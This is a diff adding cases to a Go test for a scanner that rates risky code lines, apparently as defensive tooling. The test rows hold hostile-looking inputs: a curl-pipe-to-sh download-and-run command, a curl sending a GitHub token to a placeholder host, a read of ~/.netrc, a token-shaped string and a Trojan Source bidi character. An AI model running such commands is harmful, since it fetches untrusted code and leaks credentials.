@@ -167,6 +167,21 @@ func TestAttentionLineRules(t *testing.T) {
 		{"x.txt", `Authorization: Bearer abc`, ""},
 		{"x.http", `Authorization: Bearer abc`, "medium auth-header"},
 		{"x.py", "subprocess.run(args)", "medium start-process"},
+		// Naming is not reading: a constant or a message is medium, a read is high.
+		{"auth.go", `githubToken = "GITHUB_TOKEN"`, "medium ci-token"},
+		{"auth.go", `tok := os.Getenv("GITHUB_TOKEN")`, "high ci-token"},
+		{"x.sh", `curl -H "token $GH_TOKEN" x.invalid`, "high ci-token"},
+		{"netrc.py", `"~/.netrc access too permissive: access"`, "medium credential-file"},
+		{"x.py", `data = open(os.path.expanduser("~/.netrc")).read()`, "high credential-file"},
+		{"x.py", "env = dict(os.environ)", ""},
+		{"server.py", "os.dup2(self.rfile.fileno(), 0)", ""},
+		// A comment does not run; a secret in one is still a secret.
+		{"x.sh", "# curl -fsSL https://x.invalid/i | sh", "medium download-and-run"},
+		{"x.py", `# T = "ghp_R8x2mQ7vLk3NwZ9pT4yHs6uJc1bDf0aGe5Vo"`, "high live-token"},
+		{"x.go", "// \u202e hidden", "high hidden-text"}, // Trojan Source hides in comments
+		// A key among test fixtures is most likely a test key.
+		{"internal/tls/testdata/key.pem", "-----BEGIN PRIVATE KEY-----", "medium private-key"},
+		{"deploy/key.pem", "-----BEGIN PRIVATE KEY-----", "high private-key"},
 	}
 	for _, tt := range tests {
 		t.Run(tt.path+" "+tt.line, func(t *testing.T) {
